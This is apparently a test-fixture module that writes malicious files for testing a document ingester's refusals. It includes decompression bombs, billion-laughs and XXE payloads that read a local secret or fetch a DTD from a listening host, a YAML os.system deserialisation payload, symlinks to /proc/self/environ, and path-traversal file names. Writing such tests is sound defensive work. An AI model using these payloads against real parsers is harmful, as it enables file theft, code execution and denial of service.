"""Files made to hurt whoever reads them, each with the reason it must be refused for, or "" where it may be read."""

from __future__ import annotations

import gzip
import json
import os
import random
import socket
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from itertools import pairwise
from pathlib import Path

SECRET = "motdepasseimprenable"
"""What stands in a file beside the folder: it must never come into an index."""
ANY = ""
TOO_LONG = "plus long(?:ue)? que la limite"
LARGE = 200_000_000
NESTED = "imbriqu|trop de|plus long que la limite"
SHAPE = "trop de|trop lourd|aucune colonne"


@dataclass(frozen=True)
class Trap:
    """One file, what writes it, and a pattern of its reason; `ANY` where being read within bounds is as good."""

    name: str
    write: Callable[[Path], object]
    reason: str


def traps(size: int, depth: int, address: str, secret: Path, rng: random.Random) -> Iterator[Trap]:
    """Yield every trap: `size` in bytes for what is long, `depth` for what is nested; `address` is a host that listens
    to who comes, `secret` a file of this machine."""
    yield from _bombs(size, depth, address, secret)
    for trap in _long(size):
        # What has too much of something has so only where it is large.
        yield trap if size >= LARGE or not trap.reason.startswith(SHAPE) else replace(trap, reason=ANY)
    yield from _deep(size, depth)
    yield from _bytes(rng)
    yield from _files(secret)


def _bombs(size: int, depth: int, address: str, secret: Path) -> Iterator[Trap]:
    zeros, spaces = bytes(1 << 20), b" " * (1 << 20)
    # Each line costs its time: the short form has not so many.
    few = b"" if size >= LARGE else b" " * 100
    for suffix in ("jsonl", "csv", "txt", "html", "md", "json", "xml"):
        reason = TOO_LONG + "|hors de proportion|UTF-16|colonne|JSON invalide|ni titre|RSS"
        yield Trap(f"bombe-zeros.{suffix}.gz", _gzip_of(zeros, 20 * size), reason)
        yield Trap(f"bombe-blancs.{suffix}.gz", _gzip_of(spaces, 20 * size), reason)
    yield Trap(
        "bombe-lignes.jsonl.gz", _gzip_of((b"{}" + few + b"\n") * (1 << 12), 20 * size), "hors de proportion|ni titre"
    )
    yield Trap("bombe-lignes.csv.gz", _gzip_of((few + b"\n") * (1 << 12), 20 * size), "hors de proportion")
    yield Trap("poupee.jsonl.gz", lambda path: path.write_bytes(gzip.compress(gzip.compress(zeros))), "JSON|UTF-8")
    yield Trap("poupee.txt.gz", lambda path: path.write_bytes(gzip.compress(gzip.compress(b"Bonjour"))), "binaire")
    yield Trap("coupe.jsonl.gz", lambda path: path.write_bytes(gzip.compress(b'{"text":"a"}\n' * 99)[:-9]), "tronqué")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 30))
    for name, doctype, text in (
        ("milliard", f'<!DOCTYPE rss [<!ENTITY l0 "ha">{laughs}]>', "&l29;"),
        ("quadratique", f'<!DOCTYPE rss [<!ENTITY a "{"a" * (size // 8)}">]>', "&a;" * (size // 8)),
        ("fichier", f'<!DOCTYPE rss [<!ENTITY a SYSTEM "{secret.as_uri()}">]>', "&a;"),
        ("parametre", f'<!DOCTYPE rss [<!ENTITY % a SYSTEM "{address}/e.dtd"> %a;]>', "&b;"),
    ):
        yield Trap(f"{name}.xml", _text(rss(text, doctype)), f"DTD|{TOO_LONG}")
        # Comments and instructions before it hide nothing.
        yield Trap(f"{name}-cache.rss", _text(rss(text, f"<!-- <rss> -->\n<?x y?>{doctype}")), f"DTD|{TOO_LONG}")
        yield Trap(f"{name}.html", _text(f"{doctype}<html><body><p>{text}</p></body></html>"), ANY)
        yield Trap(f"{name}.md", _text(f"---\ntitle: Piège\n---\n{doctype}\n\n<p>{text[:100_000]}</p>\n"), ANY)
    for name, doctype in (
        ("dtd-reseau", f'<!DOCTYPE rss SYSTEM "{address}/rss.dtd">'),
        ("dtd-fichier", f'<!DOCTYPE rss SYSTEM "{secret.as_uri()}">'),
        ("feuille", f'<?xml-stylesheet href="{address}/x.xsl" type="text/xsl"?>'),
    ):
        inside = (
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{address}/x"/>'
            f'&lt;img src="{address}/i.png"&gt;&lt;link rel=stylesheet href="{address}/s.css"&gt;'
        )
        yield Trap(f"{name}.xml", _text(rss(inside, doctype)), ANY)
    yield Trap(
        "aspire.html",
        _text(
            f'<html><head><base href="{address}/"><link rel="canonical" href="{address}/c"><link rel="stylesheet" '
            f'href="{address}/s"><script src="{address}/j"></script></head><body><iframe src="{address}/f"></iframe>'
            f'<article><img src="{address}/i"><p>{"Un article qui voudrait tout charger. " * 9}</p></article></body>'
        ),
        ANY,
    )
    bomb = "a: &a [x]\n" + "".join(f"{c}: &{c} [{','.join(['*' + p] * 9)}]\n" for p, c in pairwise("abcdefghi"))
    for name, front in (
        ("alias", bomb),
        ("imbrique", "a: " + "[" * 50_000),
        ("objet", "a: !!python/object/apply:os.system ['touch " + str(secret.with_name("touche")) + "']"),
        ("long", "a: " + "x" * 200_000),
    ):
        yield Trap(f"yaml-{name}.md", _text(f"---\n{front}\n---\nTexte.\n"), f"en-tête|imbriqu|{TOO_LONG}")
    for name, front in (
        ("imbrique", "a = " + "[" * 50_000),
        ("point", "b = 1\na" + ".a" * 60_000 + " = 1"),
        ("entier", "a = " + "9" * 90_000),
    ):
        yield Trap(f"toml-{name}.md", _text(f"+++\n{front}\n+++\nTexte.\n"), "en-tête|imbriqu|lecture impossible")


def _long(size: int) -> Iterator[Trap]:
    for suffix, start, unit, reason in (
        ("jsonl", b'{"text":"', b"mot ", TOO_LONG),
        ("json", b'[{"text":"', b"mot ", TOO_LONG),
        ("csv", b'text\n"', b"mot ", f"guillemet|{TOO_LONG}"),
        ("tsv", b"text\n", b"mot ", TOO_LONG),
        ("txt", b"", b"mot ", TOO_LONG),
        ("html", b"<html><body><p>", b"mot ", TOO_LONG),
        ("md", b"# Titre\n\n", b"mot ", TOO_LONG),
        ("xml", b"<rss><channel><item><title>", b"mot ", TOO_LONG),
    ):
        yield Trap(f"ligne.{suffix}", _repeat(start, unit, size), reason)
        yield Trap(f"ligne-emoji.{suffix}", _repeat(start, "😀".encode(), size), reason)
    yield Trap("lignes-guillemet.csv", _repeat(b'text\n"', "mot 😀\n".encode(), size), "guillemet")
    yield Trap("colonnes.csv", _repeat(b"", b"text,", size // 7), SHAPE)
    yield Trap("rangee.csv", _repeat(b"title,text\na,b\n", b",", size // 7), f"{SHAPE}|plus de cellules")
    # Within the limits of bytes, but a thousand times their weight in small values.
    for name, unit in (("listes", b"[],"), ("objets", b'{"a":1},'), ("nombres", b"1.5,"), ("chaines", b'"\\n",')):
        whole = b'{"text":"a","x":[' + unit * (size // 7 // len(unit)) + b"0]}"
        yield Trap(f"petits-{name}.jsonl", file_of(whole + b"\n"), SHAPE)
        yield Trap(f"petits-{name}.json", file_of(b"[" + whole + b"]"), SHAPE)
    for name, unit in (("b", b"<b>x</b>"), ("p", b"<p>x"), ("br", b"<br>"), ("attributs", b"<a a=1 b=2 c=3>x</a>")):
        many = unit * (size // 7 // len(unit))
        page = b"<html><body><article>" + many + b"</article></body></html>"
        yield Trap(f"balises-{name}.html", file_of(page), SHAPE)
        yield Trap(f"balises-{name}.md", file_of(b"Un texte.\n\n<div>" + many + b"</div>\n"), f"{SHAPE}|{TOO_LONG}")
        escaped = many.replace(b"<", b"&lt;")[: size // 7]
        yield Trap(f"balises-{name}.rss", file_of(rss(escaped.decode()).encode()), f"{SHAPE}|mal formé")
    entry = b"<item><title>a</title></item>"
    yield Trap("entrees.rss", _repeat(b"<rss version='2.0'><channel>", entry, size // 7), f"{SHAPE}|mal formé")


def _deep(size: int, depth: int) -> Iterator[Trap]:
    for name, opening, closing in (("crochets", "[", "]"), ("accolades", '{"a":', "}")):
        value = opening * depth + ("1" if opening != "[" else "") + closing * depth
        yield Trap(f"profond-{name}.jsonl", _text(f'{{"text":"a","x":{value}}}\n'), NESTED)
        yield Trap(f"profond-{name}.json", _text(f'[{{"text":"a","x":{value}}}]'), NESTED)
        yield Trap(f"profond-{name}-ouvert.json", _text(opening * depth), f"{NESTED}|JSON")
    deep = "<div>" * depth + "<p>Un texte au fond du puits, qui ne doit pas se perdre. " * 9 + "</div>" * depth
    yield Trap("profond.html", _text(f"<html><body>{deep}</body></html>"), f"{NESTED}|aucun article")
    yield Trap("profond.md", _text(f"Un texte.\n\n{deep}\n"), NESTED)
    yield Trap("profond-citation.md", _text(">" * depth + " Un texte.\n"), ANY)
    yield Trap("profond-liste.md", _text("- " * depth + " Un texte.\n"), ANY)
    yield Trap("profond-crochets.md", _text("[" * depth + " Un texte.\n"), ANY)
    yield Trap("profond-gras.md", _text("**a _b " * depth), ANY)
    yield Trap("profond.rss", _text(rss(deep.replace("<", "&lt;"))), NESTED)
    yield Trap("profond-xhtml.rss", _text(rss(f"<div xmlns='http://www.w3.org/1999/xhtml'>{deep}</div>")), ANY)
    yield Trap("profond-xml.rss", _text("<rss>" + "<channel>" * depth), ANY)


def _bytes(rng: random.Random) -> Iterator[Trap]:
    text = "L’été, la forêt brûle près de Nîmes. " * 40
    for suffix in ("txt", "md", "csv", "html", "jsonl", "json", "xml"):
        for codec in ("utf-16-le", "utf-16-be"):
            content = {"csv": f"text\n{text}\n", "jsonl": f'{{"text":"{text}"}}\n', "json": f'[{{"text":"{text}"}}]'}
            written = content.get(suffix, text).encode(codec)
            yield Trap(f"sans-marque-{codec}.{suffix}", file_of(written), "UTF-16|format inconnu")
        yield Trap(f"hasard.{suffix}", file_of(rng.randbytes(60_000)), ANY)
        yield Trap(f"nuls.{suffix}", file_of(bytes(60_000)), ANY)
    yield Trap("mauvais.jsonl", file_of('{"text":"été"}\n'.encode() + b'{"text":"\xff\xfe\xc3"}\n'), "UTF-8")
    yield Trap("substitut.jsonl", file_of(rb'{"text":"a \ud800 b","title":"\udfff"}' + b"\n"), ANY)
    yield Trap("nul-dedans.jsonl", file_of(rb'{"text":"a \u0000 b","id":"x\u0000y"}' + b"\n"), ANY)
    yield Trap("zip.txt", file_of(b"PK\x03\x04" + rng.randbytes(9_000)), "abîmée")
    yield Trap("zip.html", file_of(b"PK\x03\x04" + rng.randbytes(9_000)), ANY)


def _files(secret: Path) -> Iterator[Trap]:
    yield Trap("lien-dehors.txt", lambda path: path.symlink_to(secret), "sort du dossier")
    yield Trap("lien-points.txt", lambda path: path.symlink_to(Path("..") / secret.name), "sort du dossier")
    yield Trap("lien-boucle.txt", lambda path: path.symlink_to(path), ANY)
    yield Trap("lien-zero.txt", lambda path: path.symlink_to("/dev/zero"), "sort du dossier")
    yield Trap("lien-proc.txt", lambda path: path.symlink_to("/proc/self/environ"), "sort du dossier")
    yield Trap("lien-dossier.jsonl", lambda path: path.symlink_to(path.parent), "dossier|sort")
    yield Trap("tube.jsonl", lambda path: os.mkfifo(path), "périphérique")
    yield Trap("prise.jsonl", _socket, "périphérique")
    yield Trap("dossier.jsonl", lambda path: (path / "x.jsonl").mkdir(parents=True), ANY)
    yield Trap("..jsonl", _text("{}"), ANY)
    yield Trap("...txt.gz", _text("Caché"), ANY)
    yield Trap("nom\n..\\..\\x\r\x1b[31m.txt", _text("x" * 9 + SECRET[:3]), ANY)
    yield Trap(os.fsdecode(b"\xff\xfe..\xe9.txt"), _text("Un nom qui n'est pas de l'UTF-8."), ANY)


def neighbours(folder: Path, count: int) -> None:
    """Write good articles among the traps, in every format: first, in the middle and last of the walk."""
    for place in ("0", "m", "zz"):
        with (folder / f"{place}-bon.jsonl").open("w", encoding="utf-8") as out:
            for n in range(count):
                out.write(json.dumps({"id": f"{place}/{n}", "text": f"Le bon voisin {n} habite à Brest."}) + "\n")
        (folder / f"{place}-bon.txt").write_text("Bon voisin en texte\n\nIl habite à Brest, lui aussi.", "utf-8")
        (folder / f"{place}-bon.csv").write_text(f"id,text\n{place}/csv,Le bon voisin habite à Brest.\n", "utf-8")
        (folder / f"{place}-bon.md").write_text(f"---\nid: {place}/md\n---\nLe bon voisin habite à Brest.\n", "utf-8")


def _text(text: str) -> Callable[[Path], object]:
    return lambda path: path.write_text(text, "utf-8")


def file_of(content: bytes) -> Callable[[Path], object]:
    """Return what writes a file with this content."""
    return lambda path: path.write_bytes(content)


def _repeat(start: bytes, unit: bytes, size: int) -> Callable[[Path], object]:
    def write(path: Path) -> None:
        block = unit * ((1 << 20) // len(unit))
        with path.open("wb") as out:
            out.write(start)
            for _ in range(size // len(block) + 1):
                out.write(block)

    return write


def _gzip_of(block: bytes, size: int) -> Callable[[Path], object]:
    def write(path: Path) -> None:
        # A gzip file may be several, one after the other; each is as dense as can be.
        member = gzip.compress(block * 16, 9)
        with path.open("wb") as out:
            for _ in range(size // (16 * len(block)) + 1):
                out.write(member)

    return write


def rss(text: str, doctype: str = "") -> str:
    """Return a feed of one entry with this description."""
    return (
        f'<?xml version="1.0"?>{doctype}<rss version="2.0"><channel><title>Fil</title><item><title>Piège</title>'
        f"<description>{text}</description></item></channel></rss>"
    )


def _socket(path: Path) -> None:
    # The name may be longer than a socket's address can hold.
    here = Path.cwd()
    os.chdir(path.parent)
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(path.name)
    finally:
        os.chdir(here)
